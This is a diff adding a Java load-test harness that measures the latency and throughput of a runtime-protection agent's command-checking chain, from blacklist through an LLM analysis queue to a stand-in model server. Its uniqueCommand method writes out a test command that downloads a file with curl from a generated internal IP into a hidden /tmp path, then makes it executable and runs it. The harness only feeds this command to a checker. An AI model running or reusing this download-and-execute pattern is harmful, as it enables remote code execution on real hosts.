@@ -0,0 +1,175 @@
+package com.butler.service;
+
+import com.butler.AgentMain;
+import com.butler.metrics.LatencyHistogram;
+import com.butler.metrics.LatencySnapshot;
+import com.butler.metrics.RaspMetrics;
+import com.butler.util.ProcessCheckUtil;
+import java.io.File;
+import java.util.SplittableRandom;
+import java.util.concurrent.CountDownLatch;
+import java.util.concurrent.TimeUnit;
+import java.util.concurrent.atomic.AtomicLong;
+import java.util.concurrent.atomic.LongAdder;
+
+/**
+ * LLM 分析链路端到端压测
+ *
+ * 启动 {@link StandInModelServer}，多个线程并发调用 ProcessCheckUtil.checkArgs（与被 Hook 的进程启动线程相同的入口），
+ * 命令经过 黑名单 → 本地评分（如配置）→ 预算 / 熔断 → 分析队列 → LLMClient → 替身服务 的完整链路。输出：
+ * - 进程启动线程上 checkArgs 的耗时分位数（即每次进程启动增加的延迟）
+ * - 分析吞吐：每秒完成的分析数，LLM 请求延迟分位数
+ * - 队列、预算、熔断计数
+ *
+ * 用法（先在仓库根目录 mvn install，再在本目录 mvn package）：
+ *   java -Dstandin.latency=lognormal:300,0.5 -Dstandin.errorRate=0.05 -cp target/benchmarks.jar com.butler.service.AnalysisLoadTest
+ *
+ * 配置（JVM 系统属性）：
+ * - loadtest.threads     并发线程数，默认 8
+ * - loadtest.seconds     压测时长（秒），默认 10
+ * - loadtest.uniqueRatio 每次调用使用新命令的比例，其余从 32 条常见命令中选取，默认 0.5
+ * - loadtest.riskyRatio  新命令中带高危片段（黑名单未覆盖）的比例，默认 0.1
+ * - loadtest.baseUrl     已有的兼容服务地址，设置后不启动替身服务
+ * - standin.*            替身服务配置，见 StandInModelServer
+ * - rasp.llm.*           分析链路配置；未设置时关闭限流（ratePerSecond / ratePerMinute = 0），测量链路本身的容量
+ */
+public class AnalysisLoadTest {
+
+    private static final int COMMON_COMMANDS = 32;
+    private static final long DRAIN_TIMEOUT_SECONDS = 30;
+
+    public static void main(String[] args) throws Exception {
+        int threads = Integer.getInteger("loadtest.threads", 8);
+        long seconds = Long.getLong("loadtest.seconds", 10L);
+        double uniqueRatio = Double.parseDouble(System.getProperty("loadtest.uniqueRatio", "0.5"));
+        double riskyRatio = Double.parseDouble(System.getProperty("loadtest.riskyRatio", "0.1"));
+
+        StandInModelServer server = null;
+        String baseUrl = System.getProperty("loadtest.baseUrl");
+        if (baseUrl == null || baseUrl.isEmpty()) {
+            server = StandInModelServer.fromSystemProperties(0);
+            server.start();
+            baseUrl = server.getBaseUrl();
+            System.out.println("Stand-in: " + server);
+        }
+
+        // 必须在加载检测与分析相关类之前设置
+        System.setProperty("rasp.llm.baseUrl", baseUrl);
+        setDefault("rasp.log.console", "false");
+        setDefault("rasp.store.path", "");
+        setDefault("rasp.llm.ratePerSecond", "0");
+        setDefault("rasp.llm.ratePerMinute", "0");
+        AgentMain.QWEN_API_KEY = "sk-standin";
+        File llmLog = File.createTempFile("RASPSimple_LLMAnalyze_loadtest", ".log");
+        llmLog.deleteOnExit();
+        LLMAnalysis.LLM_LOG_FILE = llmLog.getAbsolutePath();
+
+        System.out.println("Load: threads=" + threads + " seconds=" + seconds + " uniqueRatio=" + uniqueRatio
+                + " riskyRatio=" + riskyRatio + " endpoint=" + baseUrl);
+
+        LatencyHistogram spawnLatency = new LatencyHistogram();
+        LongAdder calls = new LongAdder();
+        LongAdder blocked = new LongAdder();
+        AtomicLong uniqueSequence = new AtomicLong();
+        long loadStart = System.nanoTime();
+        long deadline = loadStart + TimeUnit.SECONDS.toNanos(seconds);
+        CountDownLatch done = new CountDownLatch(threads);
+
+        for (int t = 0; t < threads; t++) {
+            final long threadSeed = 42 + t;
+            Thread worker = new Thread(() -> {
+                SplittableRandom random = new SplittableRandom(threadSeed);
+                try {
+                    while (System.nanoTime() < deadline) {
+                        String[] command = random.nextDouble() < uniqueRatio
+                                ? uniqueCommand(uniqueSequence.incrementAndGet(), random.nextDouble() < riskyRatio)
+                                : commonCommand(random.nextInt(COMMON_COMMANDS));
+                        long start = System.nanoTime();
+                        try {
+                            ProcessCheckUtil.checkArgs(command);
+                        } catch (SecurityException e) {
+                            blocked.increment();
+                        }
+                        spawnLatency.record(System.nanoTime() - start);
+                        calls.increment();
+                    }
+                } finally {
+                    done.countDown();
+                }
+            }, "LoadTest-" + t);
+            worker.start();
+        }
+        done.await();
+        long loadEnd = System.nanoTime();
+
+        // 等待队列中已接收的分析完成
+        LLMAnalysisQueue queue = LLMAnalysisQueue.getInstance();
+        long drainDeadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(DRAIN_TIMEOUT_SECONDS);
+        while (queue.getInFlightCount() > 0 && System.nanoTime() < drainDeadline) {
+            Thread.sleep(50);
+        }
+        double elapsed = (System.nanoTime() - loadStart) / 1e9;
+
+        RaspMetrics metrics = RaspMetrics.getInstance();
+        LLMRateLimiter limiter = LLMRateLimiter.getInstance();
+        LLMClient client = LLMClient.getInstance();
+        long analyses = queue.getCompletedCount() + queue.getFailedCount();
+
+        System.out.println();
+        System.out.printf("checkArgs     calls=%d (%.0f/s) blocked=%d%n",
+                calls.sum(), calls.sum() / ((loadEnd - loadStart) / 1e9), blocked.sum());
+        System.out.println("spawn latency " + micros(spawnLatency.snapshot()));
+        System.out.printf("analysis      submitted=%d completed=%d failed=%d dropped=%d throughput=%.1f/s (%.1fs incl. drain)%n",
+                queue.getSubmittedCount(), queue.getCompletedCount(), queue.getFailedCount(),
+                queue.getDroppedCount(), analyses / elapsed, elapsed);
+        System.out.printf("budget        admitted=%d sampled=%d dropped=%d throttled=%d repeatRatio=%.3f%n",
+                limiter.getAdmittedCount(), limiter.getSampledCount(), limiter.getDroppedCount(),
+                limiter.getThrottledCount(), limiter.getRepeatSampleRatio());
+        System.out.printf("llm client    calls=%d failures=%d retries=%d breaker=%s opens=%d rejected=%d%n",
+                metrics.getLlmCallCount(), metrics.getLlmFailureCount(), client.getRetryCount(),
+                client.getState(), client.getOpenCount(), client.getRejectedCount());
+        System.out.println("llm latency   " + micros(metrics.getLlmLatency()));
+        if (server != null) {
+            System.out.printf("stand-in      requests=%d errors=%d throttled=%d%n",
+                    server.getRequestCount(), server.getErrorCount(), server.getThrottledCount());
+            server.stop();
+        }
+        System.exit(0);
+    }
+
+    private static void setDefault(String key, String value) {
+        if (System.getProperty(key) == null) {
+            System.setProperty(key, value);
+        }
+    }
+
+    /** 常见的重复命令（运维脚本、健康检查） */
+    private static String[] commonCommand(int i) {
+        switch (i % 4) {
+            case 0:
+                return new String[]{"/bin/df", "-h", "/data" + i};
+            case 1:
+                return new String[]{"/usr/bin/git", "rev-parse", "--short", "HEAD~" + i};
+            case 2:
+                return new String[]{"/bin/ls", "-la", "/var/log/app" + i};
+            default:
+                return new String[]{"/usr/bin/du", "-sh", "/srv/cache/" + i};
+        }
+    }
+
+    /** 新命令；risky 时带有黑名单之外、由模型判断的高危片段 */
+    private static String[] uniqueCommand(long n, boolean risky) {
+        if (risky) {
+            String file = "/tmp/.u" + n;
+            return new String[]{"/bin/sh", "-c", "curl -s -o " + file + " http://10.0." + (n % 250) + "." + (n / 250 % 250)
+                    + "/u && chmod +x " + file + " && " + file};
+        }
+        return new String[]{"/usr/bin/convert", "/srv/upload/img" + n + ".png", "-resize", "50%", "/srv/thumb/img" + n + ".jpg"};
+    }
+
+    private static String micros(LatencySnapshot s) {
+        return String.format("n=%d mean=%.1fus p50=%.1fus p90=%.1fus p99=%.1fus p99.9=%.1fus max=%.1fus",
+                s.getCount(), s.getMeanNanos() / 1e3, s.getP50Nanos() / 1e3, s.getP90Nanos() / 1e3,
+                s.getP99Nanos() / 1e3, s.getP999Nanos() / 1e3, s.getMaxNanos() / 1e3);
+    }
+}